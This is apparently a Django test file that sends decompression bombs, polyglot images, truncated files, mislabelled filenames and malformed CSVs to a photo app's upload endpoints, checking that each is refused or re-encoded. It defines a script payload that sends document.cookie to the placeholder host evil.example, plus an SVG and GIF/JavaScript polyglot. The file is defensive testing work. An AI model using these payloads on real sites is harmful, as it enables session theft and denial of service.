"""Hostile files through every upload endpoint — the photos page, the API, the mask brush and the
batch CSV: decompression bombs, polyglots, truncated images, lying names. Refused ones get a clear
4xx and leave no row and no file behind; accepted ones are stored re-encoded, so nothing smuggled
inside survives.

The 1 GB body against a live daphne is in test_body_limit.py."""

import io
import struct
import zipfile
import zlib

from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from apps.batches.models import Batch
from apps.media.models import Upload
from apps.media.storage import file_read
from tests.media.images import HTML, PDF, bomb_png, photo_bytes, truncated_jpeg

from .conftest import client_for, tally


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def header_only_png(width: int, height: int) -> bytes:
    """A 60-byte PNG whose header claims width×height RGBA pixels (40 GB at 100k²)."""
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b""))


def zip_bytes(name: str, content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


PAYLOAD = b"<script>fetch('//evil.example/'+document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>'
GIF_JS = b"GIF89a/*\x0a\x00\x0a\x00\x00\x00\x00*/=1;alert(document.domain)//;"


def webp_truncated() -> bytes:
    data = photo_bytes(200, 150, "WEBP")
    return data[: len(data) // 3]


# name → (bytes, filename, refused?)
REFUSED = {
    "header-only-100k-square-png": (header_only_png(100_000, 100_000), "tiny.png"),
    "header-only-1x100M-png": (header_only_png(1, 100_000_000), "strip.png"),
    "zlib-bomb-20k-square-png": (bomb_png(), "bomb.png"),
    "truncated-png": (photo_bytes(200, 150)[:300], "cut.png"),
    "truncated-jpeg": (truncated_jpeg(), "cut.jpg"),
    "truncated-webp": (webp_truncated(), "cut.webp"),
    "png-signature-only": (b"\x89PNG\r\n\x1a\n", "sig.png"),
    "svg-with-script": (SVG, "icon.svg"),
    "svg-named-png": (SVG, "icon.png"),
    "gif-javascript-polyglot": (GIF_JS, "cat.gif"),
    "html-named-jpg": (HTML, "photo.jpg"),
    "pdf-named-png": (PDF, "scan.png"),
    "zip-named-png": (zip_bytes("a.html", PAYLOAD), "archive.png"),
    "html-with-png-name-and-nul": (HTML, "photo.png\x00.html"),
    "empty": (b"", "empty.png"),
}
# Valid images carrying something else: accepted, but only the re-encoded pixels are kept.
SMUGGLING = {
    "png-then-zip": photo_bytes(64, 48) + zip_bytes("evil.html", PAYLOAD),
    "png-then-html": photo_bytes(64, 48) + PAYLOAD,
    "jpeg-with-html-comment": photo_bytes(64, 48, "JPEG")[:2] + b"\xff\xfe" + struct.pack(">H", len(PAYLOAD) + 2)
    + PAYLOAD + photo_bytes(64, 48, "JPEG")[2:],
    "png-with-text-chunk": photo_bytes(64, 48)[:33] + chunk(b"tEXt", b"Comment\x00" + PAYLOAD) + photo_bytes(64, 48)[33:],
}


def _walk(path):
    """Every stored file's path."""
    directories, files = default_storage.listdir(path)
    for name in files:
        yield f"{path}/{name}"
    for name in directories:
        yield from _walk(f"{path}/{name}".lstrip("/"))


def _posts(world):
    """Each upload endpoint, as a function of (bytes, filename) → response."""
    page, api = client_for(world.owner), client_for()
    api_headers = {"HTTP_AUTHORIZATION": f"Bearer {world.owner_key}"}
    photo = world.params["upload_id"]

    return {
        "photos page": lambda c, n: page.post("/photos/upload/", {"file": SimpleUploadedFile(n, c, "image/png")}),
        "photos page (htmx)": lambda c, n: page.post("/photos/upload/", {"file": SimpleUploadedFile(n, c, "image/png")},
                                                      HTTP_HX_REQUEST="true"),
        "API upload": lambda c, n: api.post("/api/v1/uploads", {"file": SimpleUploadedFile(n, c, "image/jpeg")},
                                            **api_headers),
        "API mask": lambda c, n: api.post("/api/v1/uploads", {"file": SimpleUploadedFile(n, c, "image/png"),
                                                              "kind": "mask", "photo_id": str(photo)}, **api_headers),
        "mask brush": lambda c, n: page.post(f"/photos/{photo}/masks/", {"file": SimpleUploadedFile(n, c, "image/png")}),
    }


def test_hostile_files_are_refused_with_a_4xx_and_leave_nothing(world):
    uploads, files = Upload.objects.count(), len(list(_walk("")))
    problems = []
    for endpoint, post in _posts(world).items():
        for name, (content, filename) in REFUSED.items():
            response = post(content, filename)
            tally("hostile inputs: uploads")
            if not 400 <= response.status_code < 500:
                problems.append(f"{endpoint} / {name}: {response.status_code}")
    assert not problems, problems
    assert Upload.objects.count() == uploads
    assert len(list(_walk(""))) == files


def test_what_rides_inside_a_valid_image_is_not_stored(world):
    for name, content in SMUGGLING.items():
        response = client_for().post(
            "/api/v1/uploads", {"file": SimpleUploadedFile("x.png", content, "image/png")},
            HTTP_AUTHORIZATION=f"Bearer {world.owner_key}")
        tally("hostile inputs: uploads")
        assert response.status_code == 201, (name, response.content)
        stored = file_read(Upload.objects.get(pk=response.json()["id"]).file)
        assert PAYLOAD not in stored and b"PK\x03\x04" not in stored and b"<script" not in stored, name
        Image.open(io.BytesIO(stored)).verify()


def test_a_name_that_lies_about_the_content_is_stored_by_its_content(world):
    response = client_for().post(
        "/api/v1/uploads", {"file": SimpleUploadedFile("photo.gif", photo_bytes(40, 30, "JPEG"), "image/gif")},
        HTTP_AUTHORIZATION=f"Bearer {world.owner_key}")
    tally("hostile inputs: uploads")
    assert response.status_code == 201
    upload = Upload.objects.get(pk=response.json()["id"])
    assert not upload.file.endswith(".gif")
    assert Image.open(io.BytesIO(file_read(upload.file))).format in ("JPEG", "PNG", "WEBP")


CSVS = {
    "utf32-bom": b"\xff\xfe\x00\x00" * 1000, "binary": bytes(range(256)) * 50,
    "huge-line": b"prompt\n" + b"A" * 70_000 + b"\n", "too-many-rows": b"model,prompt\n" + b"offline-sketch,x\n" * 5000,
    "bad-quote": b'prompt\n"unterminated\n', "nul": b"\x00\x00\x00", "nul-in-prompt": b"prompt\na\x00b\n",
    "bidi": "prompt\n\u202eevil\n".encode(), "zip": zip_bytes("a.csv", b"prompt\nx\n"), "empty": b"",
    "header-only": b"model,prompt,num_images\n", "negative-count": b"prompt,num_images\nx,-5\n",
    "huge-count": b"prompt,num_images\nx,99999999999999999999\n",
}


def test_hostile_batch_csvs_are_refused_or_shown_as_errors(world):
    client = client_for(world.owner)
    for name, content in CSVS.items():
        batches = Batch.objects.count()
        response = client.post("/batches/", {
            "model": "offline-sketch", "csv_file": SimpleUploadedFile("items.csv", content, "text/csv")})
        tally("hostile inputs: uploads")
        assert response.status_code < 500, name
        if response.status_code != 302:
            assert Batch.objects.count() == batches, name
